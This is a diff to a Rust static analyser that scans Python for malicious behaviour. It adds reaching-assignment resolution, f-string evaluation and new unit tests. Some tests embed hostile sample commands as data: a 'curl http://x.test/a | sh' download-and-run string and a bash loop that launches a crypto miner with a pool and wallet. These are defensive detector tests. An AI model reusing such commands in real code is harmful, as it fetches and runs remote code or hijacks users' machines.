@@ -551,6 +551,9 @@ impl<'t> Py<'t> {
             visits: Vec::new(),
         };
         let mut top_calls: Vec<String> = Vec::new();
+        // Names called (not merely passed) at the top level: a class passed as an
+        // argument (`ABC.register(Cls)`) is not instantiated.
+        let mut top_callees: HashSet<String> = HashSet::new();
         let mut fn_calls: HashMap<String, Vec<String>> = HashMap::new();
         let mut fn_class: Vec<(String, String)> = Vec::new();
         let mut alias_candidates: Vec<(String, Node<'t>)> = Vec::new();
@@ -698,6 +701,7 @@ impl<'t> Py<'t> {
                             _ => {}
                         }
                     }
+                    let callee_named = !names.is_empty();
                     if let Some(args) = n.child_by_field_id(field!("arguments")) {
                         let mut c = args.walk();
                         for a in args.named_children(&mut c) {
@@ -722,7 +726,12 @@ impl<'t> Py<'t> {
                     }
                     match &func {
                         Some(f) => fn_calls.entry(f.to_string()).or_default().extend(names),
-                        None => top_calls.extend(names),
+                        None => {
+                            if let Some(callee) = names.first().filter(|_| callee_named) {
+                                top_callees.insert(callee.clone());
+                            }
+                            top_calls.extend(names)
+                        }
                     }
                 }
                 "pair" => {
@@ -818,7 +827,7 @@ impl<'t> Py<'t> {
         // A class instantiated at the top level makes its methods reachable.
         let mut seeds_top = top_calls.clone();
         for (m, cls) in &fn_class {
-            if top_calls.contains(cls) {
+            if top_callees.contains(cls) {
                 seeds_top.push(m.clone());
             }
         }
@@ -879,6 +888,19 @@ impl<'t> Py<'t> {
             fid = self.parent_fn(f.start_byte(), f.end_byte());
         }
         self.assigns.get(&(0, name.to_string()))
+    }
+
+    /// The assignment of `name` that reaches its use `n`: the latest one ending
+    /// before the use, not the one the use is part of (`url = decode(url)`); when none
+    /// comes before (a module variable read in a function defined above it), the only
+    /// assignment there is. Flow-insensitive otherwise (branches are not told apart).
+    fn reaching(&self, n: Node<'t>, name: &str) -> Option<Node<'t>> {
+        let rhs = self.lookup(n, name)?;
+        rhs.iter()
+            .filter(|r| r.end_byte() <= n.start_byte())
+            .max_by_key(|r| r.start_byte())
+            .or_else(|| if rhs.len() == 1 { rhs.first() } else { None })
+            .copied()
     }
 
     /// Id of the function strictly enclosing the byte range `start..end` (0 if none).
@@ -946,12 +968,12 @@ impl<'t> Py<'t> {
                 if let Some(a) = self.aliases.get(t) {
                     return Some(norm_builtins(a.clone()));
                 }
-                if let Some(rhs) = self.lookup(n, t).and_then(|v| v.last())
+                if let Some(rhs) = self.reaching(n, t)
                     && kind(rhs) == "call"
                     && let Some(f) = rhs.child_by_field_id(field!("function"))
                     && let Some((c, e)) = self.canon(f, depth + 1)
                 {
-                    if let Some(b) = self.builtin_by_name(&c, *rhs) {
+                    if let Some(b) = self.builtin_by_name(&c, rhs) {
                         return Some((b, true));
                     }
                     return Some((format!("{c}()"), e));
@@ -1076,7 +1098,7 @@ impl<'t> Py<'t> {
                 if l.fstring {
                     let mut c = n.walk();
                     if n.named_children(&mut c).any(|x| kind(x) == "interpolation") {
-                        return None;
+                        return self.static_fstring(n, depth);
                     }
                 }
                 Some((l.bytes, false))
@@ -1134,15 +1156,7 @@ impl<'t> Py<'t> {
                 if let Some((_, v)) = self.bindings.borrow().iter().rev().find(|(k, _)| k == name) {
                     return v.clone();
                 }
-                let rhs = self.lookup(n, name)?;
-                // The last assignment before this use (flow-insensitive otherwise); not
-                // the one this use is part of (`url = decode(url)`).
-                let pick = rhs
-                    .iter()
-                    .filter(|r| r.end_byte() <= n.start_byte())
-                    .max_by_key(|r| r.start_byte())
-                    .or_else(|| if rhs.len() == 1 { rhs.first() } else { None })?;
-                self.static_bytes(*pick, depth + 1)
+                self.static_bytes(self.reaching(n, name)?, depth + 1)
             }
             "subscript" => {
                 let sub = n.child_by_field_id(field!("subscript"))?;
@@ -1157,6 +1171,36 @@ impl<'t> Py<'t> {
             "call" => self.static_call(n, depth),
             _ => None,
         }
+    }
+
+    /// Value of an f-string whose every interpolation has a static value and no
+    /// conversion or format (`f"/tmp/{name} -o {POOL}"`).
+    fn static_fstring(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
+        let lit = text(n, self.src);
+        let mut out = Vec::new();
+        let mut tr = false;
+        let mut c = n.walk();
+        for ch in n.named_children(&mut c) {
+            match kind(ch) {
+                "string_content" => out.extend(pylit::fstring_part(lit, text(ch, self.src))),
+                "interpolation" => {
+                    if ch.child_by_field_id(field!("type_conversion")).is_some()
+                        || ch.child_by_field_id(field!("format_specifier")).is_some()
+                    {
+                        return None;
+                    }
+                    let (b, t) =
+                        self.static_bytes(ch.child_by_field_id(field!("expression"))?, depth + 1)?;
+                    tr |= t;
+                    out.extend(b);
+                }
+                _ => {}
+            }
+            if out.len() > decode::MAX_OUT {
+                return None;
+            }
+        }
+        Some((out, tr))
     }
 
     fn args(&self, call: Node<'t>) -> Vec<Node<'t>> {
@@ -1323,7 +1367,7 @@ impl<'t> Py<'t> {
         match kind(f) {
             "lambda" => Some(f),
             "identifier" => {
-                let rhs = self.lookup(f, text(f, self.src))?.last().copied()?;
+                let rhs = self.reaching(f, text(f, self.src))?;
                 (kind(rhs) == "lambda").then_some(rhs)
             }
             _ => None,
@@ -2596,9 +2640,31 @@ impl<'t> Py<'t> {
             return String::from_utf8_lossy(&b).to_string();
         }
         match kind(n) {
-            "string" => pylit::decode(text(n, src))
-                .map(|l| String::from_utf8_lossy(&l.bytes).to_string())
-                .unwrap_or_default(),
+            "string" => {
+                let mut c = n.walk();
+                if n.named_children(&mut c).any(|x| kind(x) == "interpolation") {
+                    // f-string: literal parts as written, interpolations resolved.
+                    let lit = text(n, src);
+                    let mut out = String::new();
+                    let mut c = n.walk();
+                    for ch in n.named_children(&mut c) {
+                        match kind(ch) {
+                            "string_content" => out.push_str(&String::from_utf8_lossy(
+                                &pylit::fstring_part(lit, text(ch, src)),
+                            )),
+                            "interpolation" => match ch.child_by_field_id(field!("expression")) {
+                                Some(e) => out.push_str(&self.cmd_text(e, depth + 1)),
+                                None => out.push_str("{}"),
+                            },
+                            _ => {}
+                        }
+                    }
+                    return out;
+                }
+                pylit::decode(text(n, src))
+                    .map(|l| String::from_utf8_lossy(&l.bytes).to_string())
+                    .unwrap_or_default()
+            }
             "list" | "tuple" | "concatenated_string" => {
                 let mut parts = Vec::new();
                 let mut c = n.walk();
@@ -2620,9 +2686,9 @@ impl<'t> Py<'t> {
                     .map(|x| self.cmd_text(x, depth + 1));
                 format!("{}{}", l.unwrap_or_default(), r.unwrap_or_default())
             }
-            "identifier" => match self.lookup(n, text(n, src)) {
-                Some(v) if !v.is_empty() => self.cmd_text(v[v.len() - 1], depth + 1),
-                _ => "{}".into(),
+            "identifier" => match self.reaching(n, text(n, src)) {
+                Some(v) => self.cmd_text(v, depth + 1),
+                None => "{}".into(),
             },
             "call" => {
                 // "...".format(...), os.path.join(...), " ".join([...])
@@ -3316,6 +3382,51 @@ mod tests {
         assert_eq!(f.stage, Some(Stage::Install));
     }
 
+    #[test]
+    fn commands_read_the_assignment_that_reaches_them() {
+        // Not static (`x` is unknown), so the command text is read part by part.
+        let s = run(
+            "import os\ncmd = 'ls ' + x\ncmd = 'curl http://x.test/a | sh ' + x\nos.system(cmd)\n",
+        );
+        let r = rules(&s);
+        assert!(r.contains(&"CMD-STAGED-EXEC"), "{r:?}");
+        let s = run(
+            "import os\ncmd = 'curl http://x.test/a | sh ' + x\ncmd = 'ls ' + x\nos.system(cmd)\n",
+        );
+        let r = rules(&s);
+        assert!(!r.contains(&"CMD-STAGED-EXEC"), "{r:?}");
+    }
+
+    #[test]
+    fn f_string_commands_are_read_with_their_parts() {
+        let wallet = "dero1qy25yfyzw00d5t0mt8pvtd9t4p7zp8x3zl06pwkhaj4zkuqhnmnv2qg";
+        let src = format!(
+            "import subprocess, random\nPOOL = 'pool.example.test:80'\nWALLET = '{wallet}'\n\
+             def go():\n    name = random.choice(['a', 'b'])\n    \
+             subprocess.Popen(['bash', '-c', f'while true; do /tmp/{{name}} -r {{POOL}} -w {{WALLET}}; done'])\n"
+        );
+        let s = run(&src);
+        let r = rules(&s);
+        assert!(r.contains(&"MINER"), "{r:?}");
+        // The same line without the wallet is not a miner.
+        let s = run(&src.replace("-w {WALLET}", ""));
+        assert!(!rules(&s).contains(&"MINER"));
+    }
+
+    #[test]
+    fn only_a_class_called_at_the_top_level_runs_its_methods() {
+        let body = "import os\nclass Shell:\n    def go(self):\n        os.system('ls')\n";
+        let stage = |tail: &str| {
+            let s = run(&format!("{body}{tail}"));
+            let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
+            f.stage
+        };
+        // Instantiated: its methods count as reached from the top level.
+        assert_eq!(stage("Shell()\n"), Some(Stage::Install));
+        assert_eq!(stage("Shell().go()\n"), Some(Stage::Install));
+        // Only handed to a registry (`ABC.register(Shell)`): nothing runs.
+        assert_eq!(stage("Base.register(Shell)\n"), Some(Stage::Runtime));
+    }
     #[test]
     fn garbage_does_not_panic() {
         run("\u{0}\u{1}def (((( '''");
